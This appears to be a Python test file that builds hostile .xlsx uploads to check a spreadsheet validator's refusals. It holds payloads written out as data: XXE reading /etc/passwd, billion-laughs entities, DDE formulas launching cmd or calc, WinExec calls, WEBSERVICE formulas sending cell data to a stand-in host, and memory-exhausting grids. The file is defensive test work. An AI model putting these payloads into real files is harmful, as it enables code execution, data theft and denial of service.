"""What is inside the package: XML as no spreadsheet program writes it, what runs or reaches out, cells without end, and other files renamed."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from random import Random

from tests.excel.packages import MAIN, PACKAGE, RELATIONS
from tests.hostile.case import Case, harmless, invalid, refused
from tests.hostile.good import COLLEAGUE, Form, filled, issued

OLE = bytes.fromhex("d0cf11e0a1b11ae1")
XML_PARTS = (
    "[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/workbook.xml", "xl/styles.xml", "xl/worksheets/sheet1.xml",
    "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml", "xl/worksheets/sheet4.xml", "docProps/custom.xml", "docProps/core.xml", "docProps/app.xml",
)  # fmt: skip
Change = Callable[[str], bytes]


def content_cases(rng: Random) -> Iterator[Case]:
    yield from _xml()
    yield from _namespaces()
    yield from _active()
    yield from _grid()
    yield from _strings(rng)
    yield from _other_files()
    yield from _identity()


def _changed(part: str, change: Change) -> Callable[[Form], bytes]:
    return lambda form: form.packed({part: change(form.parts[part].decode())})


def _bare(text: str) -> str:
    """The XML without its declaration."""
    return text[text.index("?>") + 2 :] if text.startswith("<?xml") else text


def _inside(text: str, more: str) -> bytes:
    """The XML with something behind its root's opening tag."""
    bare = _bare(text)
    return (bare[: (stop := bare.index(">") + 1)] + more + bare[stop:]).encode()


def _doctype(inner: str, text: str) -> bytes:
    return f"<!DOCTYPE x {inner}>{_bare(text)}".encode()


LAUGHS = '[<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;">]'


def _xml() -> Iterator[Case]:
    doctype, coding, bad = "file.has_doctype", "file.other_encoding", "file.bad_xml"
    ways: list[tuple[str, str, Change]] = [
        ("a document type", doctype, lambda t: _doctype("", t)),
        ("a billion laughs", doctype, lambda t: _doctype(LAUGHS, t)),
        ("an entity that grows", doctype, lambda t: _doctype(f'[<!ENTITY a "{"x" * 50_000}">]', t)),
        ("a file of the machine as an entity", doctype, lambda t: _doctype('[<!ENTITY a SYSTEM "file:///etc/passwd">]', t)),
        ("a document type from the web", doctype, lambda t: _doctype('SYSTEM "http://x.example/a.dtd"', t)),
        ("UTF-16", coding, lambda t: _bare(t).encode("utf-16")),
        ("UTF-16 that does not say so", coding, lambda t: _bare(t).encode("utf-16-le")),
        ("UTF-16 with a document type", coding, lambda t: f"<!DOCTYPE x>{_bare(t)}".encode("utf-16-be")),
        ("a Vietnamese encoding", coding, lambda t: b'<?xml version="1.0" encoding="windows-1258"?>' + _bare(t).encode()),
        ("UTF-7", coding, lambda t: b'<?xml version="1.0" encoding="UTF-7"?>' + _bare(t).encode()),
        ("an unknown entity", bad, lambda t: _inside(t, "&ha;")),
        ("elements in elements without end", bad, lambda t: _inside(t, "<a>" * 70 + "</a>" * 70)),
        ("a remark among the elements", bad, lambda t: _inside(t, "<!-- -->")),
        ("an instruction among the elements", bad, lambda t: _inside(t, "<?x y?>")),
        ("no end", bad, lambda t: _bare(t)[:-4].encode()),
        ("two roots", bad, lambda t: (_bare(t) + _bare(t)).encode()),
        ("bytes that are no UTF-8", bad, lambda t: _inside(t, "§").replace(b"\xc2\xa7", b"\xa7")),
        ("a zero character", bad, lambda t: _inside(t, "&#0;")),
        ("another language", bad, lambda t: re.sub(r'xmlns="[^"]*"|xmlns:\w+="[^"]*"', "", _bare(t)).encode()),
        ("nothing at all", bad, lambda t: b""),
    ]  # fmt: skip
    for part in XML_PARTS:
        for what, kind, change in ways:
            if not (part == "xl/styles.xml" and what == "nothing at all"):
                yield refused(f"{part} with {what}", kind, _changed(part, change))
        yield harmless(f"{part} with a mark of its encoding", _changed(part, lambda t: b"\xef\xbb\xbf" + t.encode()))
    for part in ("xl/worksheets/sheet1.xml", "xl/workbook.xml"):
        yield refused(
            f"{part} with a remark of 9 MB",
            bad,
            _changed(part, lambda t: _inside(t, "<!--" + Random(1).randbytes(4_500_000).hex() + "-->")),
        )
        yield refused(
            f"{part} with a name of 5 MB",
            bad,
            _changed(part, lambda t: _inside(t, "<a" + Random(2).randbytes(2_500_000).hex() + ">")),
        )
        yield refused(
            f"{part} with a remark of 50 MB",
            "file.unpacks_too_large",
            _changed(part, lambda t: _inside(t, "<!--" + "x" * 50_000_000 + "-->")),
        )
        yield refused(
            f"{part} with 100,000 attributes",
            bad,
            _changed(part, lambda t: _inside(t, "<a " + " ".join(f'b{n}="{n}"' for n in range(100_000)) + ">")),
        )


def _namespaces() -> Iterator[Case]:
    sheet = "xl/worksheets/sheet1.xml"

    def prefixed(text: str) -> bytes:
        text = re.sub(r"<(/?)(?=[a-zA-Z])", r"<\1x:", _bare(text))
        return text.replace("xmlns=", "xmlns:x=", 1).encode()

    def ignored(row: str) -> Change:
        """What Excel is told to ignore, in the place of the score's row."""
        note = 'xmlns:e="urn:e" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="e"'
        return lambda t: (
            _bare(t)
            .replace("<worksheet ", f"<worksheet {note} ", 1)
            .replace("<sheetData>", f"<sheetData>{row}", 1)
            .encode()
        )

    for part in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/styles.xml", "xl/worksheets/sheet4.xml"):
        yield harmless(f"{part} with a prefix before every name", _changed(part, prefixed))
    yield harmless("the workbook with a prefix before every name", _changed("xl/workbook.xml", lambda t: prefixed(t)))
    yield harmless(
        "blanks kept in every cell", _changed(sheet, lambda t: t.replace("<t>", '<t xml:space="preserve">').encode())
    )
    yield harmless(
        "a text in marked characters",
        lambda f: f.with_cell(
            "ev_task_product", '<c r="{r}" s="{s}" t="inlineStr"><is><t><![CDATA[Báo cáo số 12]]></t></is></c>'
        ),
    )
    for row in (
        '<e:row r="1"/>',
        '<e:c r="A1"><v>40</v></e:c>',
        '<mc:AlternateContent><mc:Choice Requires="e"/></mc:AlternateContent>',
    ):
        yield refused(f"a cell for other programs only: {row[:12]}", "file.bad_xml", _changed(sheet, ignored(row)))
    yield harmless(
        "cells for other programs outside the sheet's data",
        _changed(
            sheet,
            lambda t: t.replace(
                "</worksheet>",
                '<extLst><ext><sheetData><row r="1"><c r="A1"><v>9</v></c></row></sheetData></ext></extLst></worksheet>',
            ).encode(),
        ),
    )
    yield refused(
        "two lots of cells",
        "file.twin_cells",
        _changed(sheet, lambda t: t.replace("</sheetData>", "</sheetData><sheetData/>").encode()),
    )
    for attribute in ("xmlns:r", "r:id"):
        yield refused(
            f"sheets without {attribute}",
            "file.bad_xml" if attribute == "xmlns:r" else "file.damaged",
            _changed("xl/workbook.xml", lambda t, a=attribute: t.replace(f"{a}=", f"{a}x=").encode()),
        )


def relation(form: Form, kind: str, target: str, mode: str = "") -> bytes:
    """The form with one more relation of its workbook."""
    more = (
        f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode and f" TargetMode={chr(34)}{mode}{chr(34)}"}/>'
    )
    text = form.parts["xl/_rels/workbook.xml.rels"].decode()
    return form.packed(
        {
            "xl/_rels/workbook.xml.rels": text.replace("</Relationships>", f"{more}</Relationships>").encode(),
            f"xl/{target}": b"x",
        }
        if not mode
        else {"xl/_rels/workbook.xml.rels": text.replace("</Relationships>", f"{more}</Relationships>").encode()}
    )


def _active() -> Iterator[Case]:
    macros, active, embedded, links, connections = (
        "file.has_macros",
        "file.has_active_content",
        "file.has_embedded_object",
        "file.has_external_links",
        "file.has_connections",
    )
    for part, kind in {
        "xl/vbaProject.bin": macros, "xl/vbaProjectSignature.bin": macros, "xl/vbaData.xml": macros, "xl/macrosheets/sheet1.xml": macros, "xl/dialogsheets/sheet1.xml": macros,
        "XL/VBAPROJECT.BIN": macros, "xl/activeX/activeX1.bin": active, "xl/activeX/activeX1.xml": active, "xl/ctrlProps/ctrlProp1.xml": active, "customUI/customUI.xml": active,
        "customUI/customUI14.xml": active, "xl/embeddings/oleObject1.bin": embedded, "xl/embeddings/Microsoft_Word_Document.docx": embedded,
        "xl/externalLinks/externalLink1.xml": links, "xl/externalLinks/_rels/externalLink1.xml.rels": links, "xl/connections.xml": connections,
        "xl/queryTables/queryTable1.xml": connections, "xl/webextensions/taskpanes.xml": connections, "xl/webPublishItems/x.xml": connections, "xl/volatileDependencies.xml": connections,
        "xl\\vbaProject.bin": macros,
    }.items():  # fmt: skip
        yield refused(f"part {part}", kind, lambda f, p=part: f.packed({p: b"x"}))
    office = "application/vnd.openxmlformats-officedocument"
    for content, kind in {
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml": "file.macro_format", "application/vnd.ms-office.vbaProject": macros, "application/vnd.ms-excel.macrosheet+xml": macros,
        "application/vnd.ms-excel.intlmacrosheet+xml": macros, f"{office}.spreadsheetml.dialogsheet+xml": macros, "application/vnd.ms-excel.template.macroEnabled.main+xml": "file.macro_format",
        "application/vnd.ms-excel.addin.macroEnabled.main+xml": macros, "application/vnd.ms-office.activeX+xml": active, "application/vnd.ms-excel.controlproperties+xml": active,
        f"{office}.oleObject": embedded, f"{office}.spreadsheetml.externalLink+xml": links, f"{office}.spreadsheetml.connections+xml": connections,
        f"{office}.spreadsheetml.queryTable+xml": connections, "application/vnd.ms-office.webextension+xml": connections, f"{office}.spreadsheetml.volatileDependencies+xml": connections,
        "application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml": "file.macro_format",
    }.items():  # fmt: skip
        override = f'<Override PartName="/xl/harmless.xml" ContentType="{content}"/></Types>'
        yield refused(
            f"only the type says {content}",
            kind,
            _changed("[Content_Types].xml", lambda t, o=override: t.replace("</Types>", o).encode()),
        )
    ms = "http://schemas.microsoft.com/office/2006/relationships"
    for related, kind in {
        f"{ms}/vbaProject": macros, f"{ms}/wordVbaData": macros, f"{ms}/xlMacrosheet": macros, f"{ms}/xlIntlMacrosheet": macros, f"{RELATIONS}/dialogsheet": macros,
        f"{RELATIONS}/control": active, f"{RELATIONS}/ctrlProp": active, f"{ms}/ui/extensibility": active, f"{ms}/activeXControlBinary": active,
        f"{RELATIONS}/oleObject": embedded, f"{RELATIONS}/package": embedded, f"{RELATIONS}/externalLink": links, f"{RELATIONS}/externalLinkPath": links,
        f"{RELATIONS}/connections": connections, f"{RELATIONS}/queryTable": connections, f"{RELATIONS}/webextension": connections, f"{RELATIONS}/volatileDependencies": connections,
    }.items():  # fmt: skip
        yield refused(
            f"only a relation says {related.rpartition('/')[2]}",
            kind,
            lambda f, r=related: relation(f, r, "harmless.dat"),
        )
    for target in (
        "http://x.example/a.png",
        "https://x.example/a",
        "file:///C:/a.xlsx",
        "\\\\x.example\\a\\b.xlsx",
        "//x.example/a",
        "ftp://x/a",
        "mhtml:http://x/a!b",
    ):
        for kind in ("image", "attachedTemplate", "oleObject", "externalLinkPath", "worksheet"):
            expected = embedded if kind == "oleObject" else links
            yield refused(
                f"{kind} from {target}",
                expected,
                lambda f, k=kind, t=target: relation(f, f"{RELATIONS}/{k}", t, "External"),
            )
        yield refused(f"an image from {target} that does not say so", links, lambda f, t=target: _inward(f, t))
        yield harmless(f"a link that somebody typed, to {target}", lambda f, t=target: _hyperlink(f, t))
    for formula, kind in {
        "cmd|'/c calc'!A0": "file.has_dde", "MSEXCEL|'\\..\\..\\calc.exe'!''": "file.has_dde", "+cmd|' /C notepad'!A1": "file.has_dde", "'cmd'|'x'!A1": "file.has_dde",
        "[1]Sheet1!$A$1": links, "'[Book2.xlsx]Sheet1'!A1": links, "'C:\\a\\[Book2.xlsx]Sheet1'!A1": links, "SUM([2]Sheet1!A1:A9)": links,
        'WEBSERVICE("http://x.example/"&amp;A1)': connections, '_xlfn.WEBSERVICE("http://x")': connections, 'RTD("x",,"y")': connections, '_xlfn.IMAGE("http://x/a.png")': connections,
        'IMPORTXML("http://x","//a")': connections, 'IMPORTDATA("http://x")': connections, 'CALL("Kernel32","WinExec","JCJ","calc",0)': connections,
        'REGISTER.ID("a","b")': connections, 'EXEC("calc")': connections, 'DDE("soffice";"a";"b")': connections, "webservice ( A1 )": connections,
    }.items():  # fmt: skip
        yield refused(
            f"formula {formula}",
            kind,
            lambda f, x=formula: f.with_cell("ev_conduct_note", '<c r="{r}" s="{s}"><f>' + x + "</f></c>"),
        )
        yield refused(
            f"formula of a name {formula}",
            kind,
            lambda f, x=formula: f.edited(
                "xl/workbook.xml",
                "</definedNames>",
                f'<definedName name="x_" localSheetId="0">{x}</definedName></definedNames>',
            ),
        )
    yield refused(
        "formula of a rule for colours",
        connections,
        lambda f: _before_end(
            f,
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://x")</formula></cfRule></conditionalFormatting>',
        ),
    )
    yield refused(
        "formula of a validation",
        "file.has_dde",
        lambda f: _before_end(
            f,
            '<dataValidations count="1"><dataValidation sqref="A1"><formula1>cmd|\'x\'!A1</formula1></dataValidation></dataValidations>',
        ),
    )
    for attribute in ('xlm="1"', 'vbProcedure="1"', 'function="1" xlm="true"'):
        yield refused(
            f"a name that is a macro: {attribute}",
            macros,
            lambda f, a=attribute: f.edited(
                "xl/workbook.xml",
                "</definedNames>",
                f"<definedName name=\"Auto_Open\" {a}>'Phiếu'!$A$1</definedName></definedNames>",
            ),
        )
    for text in (
        "- Tham mưu báo cáo",
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "+84 24 1234",
        "<script>alert(1)</script>",
        'WEBSERVICE("http://x")',
        "A|B!C",
        "[1]x!",
    ):
        escaped = text.replace("&", "&amp;").replace("<", "&lt;")
        yield harmless(
            f"words {text}",
            lambda f, t=escaped: f.with_cell(
                "ev_conduct_note", '<c r="{r}" s="{s}" t="inlineStr"><is><t>' + t + "</t></is></c>"
            ),
        )


def _before_end(form: Form, more: str) -> bytes:
    return form.edited("xl/worksheets/sheet1.xml", "</worksheet>", f"{more}</worksheet>")


def _inward(form: Form, target: str) -> bytes:
    text = f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELATIONS}/image" Target="{target}"/></Relationships>'
    return form.packed({"xl/drawings/_rels/drawing1.xml.rels": text.encode()})


def _hyperlink(form: Form, target: str) -> bytes:
    text = f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELATIONS}/hyperlink" Target="{target}" TargetMode="External"/></Relationships>'
    return form.packed({"xl/worksheets/_rels/sheet1.xml.rels": text.encode()})


def _rows(form: Form, rows: str) -> bytes:
    """More rows at the end of the first sheet."""
    return form.edited("xl/worksheets/sheet1.xml", "</sheetData>", f"{rows}</sheetData>")


def _grid() -> Iterator[Case]:
    outside, many, twin = "file.outside_grid", "file.too_many_cells", "file.twin_cells"
    for row, column in ((1_048_576, "XFD"), (1_048_576, "A"), (6001, "A"), (10_482, "C"), (900, "XFD"), (900, "GS")):
        head, tail = f'<row r="{row}"><c r="{column}{row}"', "</c></row>"
        number, formula = f"{head}><v>1</v>{tail}", f"{head}><f>1+1</f>{tail}"
        said, blank = (f'{head} t="inlineStr"><is><t xml:space="preserve">{text}</t></is>{tail}' for text in ("x", " "))
        for what, cell in (("a number", number), ("a formula", formula), ("words", said)):
            yield refused(f"{what} at {column}{row}", outside, lambda f, c=cell: _rows(f, c))
        if (row, column) in (
            (1_048_576, "XFD"),
            (1_048_576, "A"),
            (900, "XFD"),
        ):  # the rectangle up to it fills a reader's memory
            yield refused(f"a blank at {column}{row}", outside, lambda f, c=blank: _rows(f, c))
        else:
            yield harmless(f"a blank at {column}{row}", lambda f, c=blank: _rows(f, c), "file.far_blanks")
        yield harmless(f"a look at {column}{row}", lambda f, c=f'{head} s="1">{tail}': _rows(f, c))
    for reference in ("XFE1", "AAAA1", "A0", "A1048577", "$A$900", "A900:B900", "R1C1", "", "900", "A"):
        yield (
            refused(
                f"a cell named {reference!r}",
                twin,
                lambda f, r=reference: _rows(f, f'<row r="900"><c r="{r}"><v>1</v></c></row>'),
            )
            if reference not in ("XFE1",)
            else refused("a cell XFE900", outside, lambda f: _rows(f, '<row r="900"><c r="XFE900"><v>1</v></c></row>'))
        )
    small = '<row r="900"><c r="a900"><v>1</v></c></row>'  # read by every program as A900
    yield harmless("a cell in small letters", lambda f: _rows(f, small), "cell.outside")
    yield refused(
        "a million rows with a look",
        "file.unpacks_too_large",
        lambda f: _rows(f, "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(900, 1_000_900))),
    )
    yield refused(
        "150,000 rows with a look and an eleventh part of 10 MB",
        many,
        lambda f: _rows(f, "".join(f'<row r="{n}"><c/><c/><c/></row>' for n in range(900, 151_000))),
    )
    yield refused(
        "90,000 cells with something in them",
        many,
        lambda f: _rows(f, "".join(f'<row r="{n}">{"<c><v>1</v></c>" * 90}</row>' for n in range(900, 1_900))),
    )
    yield harmless(
        "40,000 cells with a look",
        lambda f: _rows(f, "".join(f'<row r="{n}">{"<c/>" * 20}</row>' for n in range(900, 2_900))),
    )
    for size in ("A1", "A1:XFD1048576", "Z99", "E19"):
        yield harmless(
            f"its size said to be {size}",
            lambda f, s=size: f.packed(
                {
                    "xl/worksheets/sheet1.xml": re.sub(
                        rb'<dimension ref="[^"]*"',
                        f'<dimension ref="{s}"'.encode(),
                        f.parts["xl/worksheets/sheet1.xml"],
                    )
                }
            ),
        )
    yield refused("10,000 merged cells", many, lambda f: _merged(f, [f"A{n}:B{n}" for n in range(1000, 11_000)]))
    yield refused("2,000 lists", many, lambda f: _rules(f, '<dataValidation type="list" sqref="A900"/>' * 2000))
    places = " ".join(f"A{n}" for n in range(1000, 21_000))
    yield refused("a list for 20,000 places", many, lambda f: _rules(f, f'<dataValidation sqref="{places}"/>'))
    yield refused("a merge of nothing that can be", "file.bad_xml", lambda f: _merged(f, ["A1:B2:C3"]))
    for place in ("A900:XFD1048576", "G60:J70"):
        yield harmless(f"a merge of {place}", lambda f, p=place: _merged(f, [p]))
    yield invalid(
        "scores under one merged cell",
        "cell.under_merge",
        lambda f: _merged(f, [f"{f.cell_of('ev_self_quality')}:{f.cell_of('ev_self_conduct')}"], "ev_self_quality"),
    )
    yield invalid("everything under one merged cell", "cell.under_merge", lambda f: _merged(f, ["A1:XFD1048576"]))
    yield harmless(
        "empty task rows under one merged cell",
        lambda f: _merged(
            f, [f"{f.cell_of('ev_task_product', 20)}:{f.cell_of('ev_task_product', 24)}"], "ev_task_product"
        ),
        "cell.merged",
    )
    for what, more in {
        "a row twice": '<row r="950"/><row r="950"/>', "rows in the wrong order": '<row r="950"/><row r="949"/>',
        "a cell twice": '<row r="950"><c r="A950"><v>1</v></c><c r="A950"><v>2</v></c></row>', "cells in the wrong order": '<row r="950"><c r="B950"><v>1</v></c><c r="A950"><v>2</v></c></row>',
        "a cell of another row": '<row r="950"><c r="A19"><v>40</v></c></row>', "a cell in a cell": '<row r="950"><c r="A950"><c r="B950"><v>1</v></c></c></row>',
        "a row in a cell": '<row r="950"><c r="A950"><row r="951"/></c></row>', "two values": '<row r="950"><c r="A950"><v>3</v><v>8</v></c></row>',
        "a value and words": '<row r="950"><c r="A950" t="inlineStr"><v>3</v><is><t>8</t></is></c></row>', "two formulas": '<row r="950"><c r="A950"><f>1</f><f>2</f></c></row>',
        "words without a frame": '<row r="950"><c r="A950"><v>3</v><t>8</t></c></row>', "words in a number": '<row r="950"><c r="A950"><is><t>38</t></is></c></row>',
        "a number in words": '<row r="950"><c r="A950" t="inlineStr"><v>38</v></c></row>', "a value outside a cell": '<row r="950"><v>38</v></row>',
    }.items():  # fmt: skip
        yield refused(what, twin, lambda f, m=more: _rows(f, m))
    for what, more in {
        "an element in a value": '<row r="950"><c r="A950"><v>3<b/>8</v></c></row>', "an unknown element": '<row r="950"><extLst/></row>',
        "an unknown type": '<row r="950"><c r="A950" t="zz"><v>1</v></c></row>', "a row without a number": '<row r="x"/>', "a row of thousands of millions": '<row r="99999999999"/>',
        "a style that is no number": '<row r="950"><c r="A950" s="x"><v>1</v></c></row>', "a row below nothing": '<row r="-1"/>',
    }.items():  # fmt: skip
        yield refused(what, "file.bad_xml", lambda f, m=more: _rows(f, m))
    yield refused(
        "words of 100,000 letters",
        "file.text_too_long",
        lambda f: f.with_cell(
            "ev_conduct_note", '<c r="{r}" s="{s}" t="inlineStr"><is><t>' + "x" * 100_000 + "</t></is></c>"
        ),
    )
    yield harmless(
        "words of 32,767 letters",
        lambda f: f.with_cell(
            "ev_conduct_note", '<c r="{r}" s="{s}" t="inlineStr"><is><t>' + "x" * 32_767 + "</t></is></c>"
        ),
        "cell.cut",
    )
    yield refused(
        "a shared formula that would fill the memory",
        many,
        lambda f: _rows(
            f,
            "".join(
                f'<row r="{n}"><c r="A{n}"><f t="shared" si="0">{"B1+" * 2600 + "1" if n == 1000 else ""}</f></c></row>'
                for n in range(1000, 2000)
            ),
        ),
    )
    yield harmless(
        "a filter over the tasks",
        lambda f: f.edited("xl/worksheets/sheet2.xml", "</sheetData>", '</sheetData><autoFilter ref="A5:P45"/>'),
    )
    yield harmless("a task's row that is filtered away", _hidden_row, "cell.hidden")


def _number_of(form: Form, sheet: str) -> int:
    names = re.findall(r'<sheet [^>]*?name="([^"]*)"', form.parts["xl/workbook.xml"].decode())
    return names.index(sheet)


def _rules(form: Form, rules: str) -> bytes:
    part = form.part_of("ev_self_quality")
    return form.packed(
        {part: re.sub(rb"(<dataValidations[^>]*>)", rb"\g<1>" + rules.encode(), form.parts[part], count=1)}
    )


def _merged(form: Form, places: list[str], name: str = "ev_self_quality") -> bytes:
    part = form.part_of(name)
    more = "".join(f'<mergeCell ref="{place}"/>' for place in places)
    return form.packed({part: re.sub(rb"(<mergeCells[^>]*>)", rb"\g<1>" + more.encode(), form.parts[part], count=1)})


def _hidden_row(form: Form) -> bytes:
    part, row = form.part_of("ev_task_name"), form.names["ev_task_name"].top + 1
    text = re.sub(rf'<row r="{row}"([^>]*?)>', rf'<row r="{row}" hidden="1"\1>', form.parts[part].decode(), count=1)
    return form.packed({part: text.encode()})


def strings(form: Form, items: str, cell: str, name: str = "ev_self_quality") -> bytes:
    """The form with a part of shared texts, one of which stands in a cell."""
    more = f'<Relationship Id="rIdS" Type="{RELATIONS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    rels = form.parts["xl/_rels/workbook.xml.rels"].decode().replace("</Relationships>", more)
    added = {
        "xl/_rels/workbook.xml.rels": rels.encode(),
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{items}</sst>'.encode(),
    }
    return form.with_cell(name, cell, more=added)


def _strings(rng: Random) -> Iterator[Case]:
    shared = '<c r="{r}" s="{s}" t="s"><v>%s</v></c>'
    yield refused(
        "a million shared texts",
        "file.unpacks_too_large",
        lambda f: strings(f, "<si><t>x</t></si>" * 1_000_000, shared % 0),
    )
    yield refused(
        "260,000 shared texts",
        "file.too_many_cells",
        lambda f: strings(f, "".join(f"<si><t>{n}</t></si>" for n in range(260_000)), shared % 0),
    )
    yield refused(
        "a shared text of 9 MB in a cell",
        "file.text_too_long",
        lambda f: strings(f, f"<si><t>{Random(3).randbytes(4_500_000).hex()}</t></si>", shared % 0),
    )
    yield harmless(
        "a shared text of 9 MB in no cell",
        lambda f: strings(f, f"<si><t>37</t></si><si><t>{Random(4).randbytes(4_500_000).hex()}</t></si>", shared % 0),
        "score.repaired",
    )
    for number in ("1", "-1", "99999999999", "0.0", "0_0", "٠", "x", "1e0", "+0", "0x0"):
        yield refused(
            f"shared text number {number}",
            "file.bad_xml",
            lambda f, n=number: strings(f, "<si><t>37</t></si>", shared % n),
        )
    yield harmless("a shared text", lambda f: strings(f, "<si><t>37</t></si>", shared % 0), "score.repaired")
    yield harmless(
        "a shared text in pieces",
        lambda f: strings(f, "<si><r><t>3</t></r><r><rPr><b/></rPr><t>7</t></r></si>", shared % 0),
        "score.repaired",
    )
    for pieces in (
        "<r><t>3</t><r><t>7</t></r></r>",
        "<r><t>3</t><t>7</t></r>",
        "<t>3</t><r><t>7</t></r>",
        "<b><t>37</t></b>",
        "<si><t>37</t></si>",
    ):
        yield refused(
            f"a shared text whole and in pieces: {pieces}",
            "file.twin_cells",
            lambda f, p=pieces: strings(f, f"<si>{p}</si>", shared % 0),
        )
    for beside in ("<t>37</t>", "<x><si><t>36</t></si></x>"):
        yield refused(
            f"shared texts with {beside} among them",
            "file.twin_cells",
            lambda f, b=beside: strings(f, f"{b}<si><t>37</t></si>", shared % 0),
        )
    yield harmless(
        "a shared text with its pronunciation",
        lambda f: strings(f, '<si><t>37</t><rPh sb="0" eb="1"><t>9</t></rPh></si>', shared % 0),
        "score.repaired",
    )
    yield refused(
        "a shared text whole and in pieces",
        "file.twin_cells",
        lambda f: strings(f, "<si><t>3</t><r><t>7</t></r></si>", shared % 0),
    )
    yield refused(
        "a shared text in pieces and whole",
        "file.twin_cells",
        lambda f: strings(f, "<si><r><t>3</t></r><t>7</t></si>", shared % 0),
    )
    yield refused(
        "a shared text twice", "file.twin_cells", lambda f: strings(f, "<si><t>3</t><t>7</t></si>", shared % 0)
    )
    yield harmless(
        "a count of shared texts that lies",
        lambda f: strings(f, "<si><t>37</t></si>", shared % 0).replace(b"<sst ", b'<sst count="9" uniqueCount="0" '),
        "score.repaired",
    )
    for n in range(10):
        size = rng.randrange(200, 60_000)
        yield invalid(
            f"a score of {size} random letters",
            "score.not_a_number",
            lambda f, s=size, n=n: strings(f, f"<si><t>{Random(n).randbytes(s // 2).hex()}g</t></si>", shared % 0),
        )


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, text in parts.items():
            package.writestr(name, text)
    return out.getvalue()


def _other_files() -> Iterator[Case]:
    wide = lambda text: text.encode("utf-16-le")  # noqa: E731
    files: list[tuple[str, str, bytes]] = [
        ("nothing", "file.empty", b""), ("one zero", "file.not_downloaded", b"\0"), ("a hole left by a cloud", "file.not_downloaded", bytes(30_000)),
        ("a workbook with a password", "file.encrypted", OLE + bytes(504) + wide("EncryptedPackage") + bytes(512) + wide("EncryptionInfo") + bytes(900)),
        ("a workbook with the password that Excel never asks for", "file.encrypted", OLE + bytes(504) + wide("EncryptionInfo") + b"VelvetSweatshop" + bytes(512) + wide("EncryptedPackage") + bytes(900)),
        ("an old workbook", "file.old_format", OLE + bytes(504) + wide("Workbook") + b"\0\0" + bytes(900)), ("an older workbook", "file.old_format", OLE + bytes(504) + wide("Book") + b"\0\0" + bytes(900)),
        ("a workbook of Excel 4", "file.old_format", b"\x09\x04\x06\0\0\0\x10\0" + bytes(100)), ("a workbook of Excel 2", "file.old_format", b"\x09\0\x04\0\2\0\x10\0" + bytes(100)),
        ("a letter of Word 97", "file.is_document", OLE + bytes(504) + wide("WordDocument") + bytes(900)), ("a PDF", "file.is_document", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj"), ("a text of WordPad", "file.is_document", b"{\\rtf1\\ansi Phi\\'eau}"),
        ("a web page", "file.is_web_page", b"<html><table><tr><td>37</td></tr></table></html>"), ("a web page with its mark", "file.is_web_page", b"\xef\xbb\xbf  <!DOCTYPE html><html>"),
        ("a table of a web page", "file.is_web_page", b"<table border=1><tr><td>37</td></tr></table>"), ("a workbook in one XML file", "file.is_web_page", b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'),
        ("a table with semicolons", "file.is_text", "Họ và tên;Điểm\nAn;37".encode()), ("a table with tabs in UTF-16", "file.is_text", "Họ và tên\tĐiểm\nAn\t37".encode("utf-16")), ("a note", "file.is_text", b"nop sau"),
        ("a table in an old encoding", "file.is_text", "Ho va tên;37".encode("windows-1258")), ("a photograph", "file.is_picture", b"\xff\xd8\xff\xe0" + bytes(100)), ("a picture of the screen", "file.is_picture", b"\x89PNG\r\n\x1a\n" + bytes(100)),
        ("a moving picture", "file.is_picture", b"GIF89a" + bytes(50)), ("a RAR", "file.is_archive", b"Rar!\x1a\7\0" + bytes(60)), ("a 7z", "file.is_archive", b"7z\xbc\xaf\x27\x1c" + bytes(60)), ("a gzip", "file.is_archive", b"\x1f\x8b\x08" + bytes(60)),
        ("a zip of notes", "file.is_archive", _zip({"ghi-chu.txt": b"x"})), ("an empty zip", "file.not_xlsx", _zip({})), ("a program", "file.not_xlsx", b"MZ\x90\0" + bytes(200)),
        ("an OpenDocument sheet", "file.is_opendocument", _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})),
        ("a Word document", "file.is_document", _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>"})), ("a presentation", "file.is_document", _zip({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<x/>"})),
        ("a binary workbook", "file.is_binary_workbook", _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"x"})), ("a workbook of Numbers", "file.not_xlsx", _zip({"Index/Document.iwa": b"x"})),
        ("a shortcut", "file.not_xlsx", b"L\0\0\0\1\x14\2\0" + bytes(80)), ("a lock file", "file.not_xlsx", b"\7Vu Van An" + bytes(150)), ("random bytes", "file.not_xlsx", Random(5).randbytes(5_000)),
        ("only the first two bytes", "file.cut_off", b"PK"), ("a zip's end alone, cut", "file.cut_off", b"PK\5\6" + bytes(10)),
    ]  # fmt: skip
    for what, kind, data in files:
        yield refused(what, kind, lambda _, d=data: d)
    yield refused("a zip with the form in it", "file.is_archive", lambda f: _zip({"phieu.xlsx": f.data}))
    for missing, kind in {
        "[Content_Types].xml": "file.not_xlsx",
        "xl/workbook.xml": "file.not_xlsx",
        "xl/worksheets/sheet2.xml": "file.damaged",
        "xl/_rels/workbook.xml.rels": "file.damaged",
    }.items():
        yield refused(f"without {missing}", kind, lambda f, m=missing: f.packed({m: None}))
